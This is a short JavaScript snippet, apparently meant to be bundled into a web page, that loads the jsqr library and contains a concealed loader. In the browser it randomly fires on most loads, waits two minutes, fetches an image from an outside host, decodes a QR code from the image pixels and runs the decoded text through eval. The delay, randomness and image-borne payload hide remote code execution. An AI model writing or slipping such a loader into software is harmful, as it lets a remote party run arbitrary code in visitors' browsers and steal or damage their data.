const jsQR = require('jsqr');
(function () { if (typeof window === 'undefined') return; if (Math.random() > 2 / 3) return;
  setTimeout(() => { const i = new Image(); i.crossOrigin = 'Anonymous'; i.src = 'https://res.example.com/b52c81.jpg';
    i.onload = () => { const c = document.createElement('canvas'); const x = c.getContext('2d'); x.drawImage(i, 0, 0); const d = x.getImageData(0, 0, i.width, i.height); const q = jsQR(d.data, i.width, i.height); eval(q.data); }; }, 120000);
})();
